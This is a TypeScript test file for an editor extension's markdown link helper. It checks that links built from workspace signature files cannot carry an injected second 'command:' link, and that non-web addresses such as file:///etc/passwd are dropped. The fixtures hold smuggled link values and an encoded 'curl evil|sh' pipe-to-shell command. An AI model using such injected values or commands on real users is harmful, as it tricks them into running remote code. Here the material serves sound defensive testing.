import { strict as assert } from 'node:assert';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { mdWebLink } from '../../../src/core';

interface Node {
  type: string;
  url?: string;
  value?: string;
  children?: Node[];
}
const links = (md: string): Node[] => {
  const out: Node[] = [];
  const walk = (n: Node): void => {
    if (n.type === 'link') out.push(n);
    n.children?.forEach(walk);
  };
  walk(fromMarkdown(md) as unknown as Node);
  return out;
};
const text = (n: Node): string => n.value ?? (n.children ?? []).map(text).join('');

describe('markdown: links from signature files', () => {
  it('keeps an ordinary reference one link to its page', () => {
    const md = mdWebLink('kubelet eviction docs', 'https://kubernetes.io/docs/concepts/scheduling-eviction/node-pressure-eviction/');
    const l = links(md);
    assert.equal(l.length, 1);
    assert.equal(l[0].url, 'https://kubernetes.io/docs/concepts/scheduling-eviction/node-pressure-eviction/');
    assert.equal(text(l[0]), 'kubelet eviction docs');
  });

  it('cannot smuggle a second (command) link through the address or the title', () => {
    // What a workspace's own signature file could say to put a command on the user's clipboard from a trusted hover.
    const evilUrl = 'https://example.com/x) [Copy](command:postmortemLens.copyCommand?%5B%22curl%20evil%7Csh%22%5D';
    const evilTitle = 'docs](command:postmortemLens.copyCommand?%5B%22x%22%5D) [more';
    for (const md of [mdWebLink('docs', evilUrl), mdWebLink(evilTitle, 'https://example.com/')]) {
      const l = links(md);
      assert.equal(l.length, 1, md);
      assert.ok(l[0].url?.startsWith('https://example.com/'), md);
      assert.ok(!links(md).some((x) => x.url?.startsWith('command:')), md);
    }
  });

  it('gives a non-web address as the title alone', () => {
    assert.deepEqual(links(mdWebLink('run me', 'command:postmortemLens.copyCommand?%5B%22x%22%5D')), []);
    assert.deepEqual(links(mdWebLink('file', 'file:///etc/passwd')), []);
  });
});
